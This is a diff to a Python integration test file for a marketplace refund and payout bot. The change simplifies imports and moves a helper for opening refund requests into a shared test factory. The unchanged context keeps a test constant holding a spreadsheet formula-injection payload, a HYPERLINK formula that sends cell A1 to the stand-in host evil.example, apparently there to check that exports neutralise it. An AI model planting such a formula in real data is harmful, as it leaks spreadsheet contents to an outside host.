@@ -7,16 +7,15 @@ from datetime import timedelta
 
 from sqlalchemy import select
 
-from bot.domain.case import Case
-from bot.domain.contract import ContractKind, ItemKind, ItemRef
+from bot.domain.contract import ContractKind
 from bot.domain.money import Money
-from bot.domain.policy import Policy
 from bot.services.core import store
 from bot.services.payments import LedgerOnly
 from storage.tables import LedgerRow, PayoutAnswerRow
 from tests.integration.conftest import NOW
 from tests.integration.test_cli import REFUNDBOT, run
-from tests.unit.factories import CLIENT, FREELANCER, contract, milestone
+from tests.integration.test_ports import request_on
+from tests.unit.factories import FREELANCER, contract, milestone
 
 HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"оплата")'  # a milestone id the marketplace sent
 CYRILLIC = "Этапы оплаты " * 15  # 195 characters: a title is at most 200
@@ -26,23 +25,8 @@ def usd(text: str) -> Money:
     return Money.parse(text, "USD")
 
 
-def open_request(work, case_id: str, item_id: str, amount: str, team: str = "T0001") -> Case:
-    deal = work.contracts.get(team, "C-100")
-    item = work.contracts.item(team, "C-100", ItemRef(ItemKind.MILESTONE, item_id))
-    case = Case.open_request(
-        case_id=case_id,
-        contract=deal,
-        item=item,
-        amount=usd(amount),
-        reason="Not what we agreed.",
-        refunded=usd("0"),
-        held=usd("0"),
-        by=CLIENT,
-        now=NOW,
-        policy=Policy(),
-    )
-    work.cases.add(case)
-    return case
+def open_request(work, case_id: str, item_id: str, amount: str, team: str = "T0001") -> None:
+    work.cases.add(request_on(work, case_id, item_id, NOW, amount, team))
 
 
 def seeded(uow, sessions) -> int:
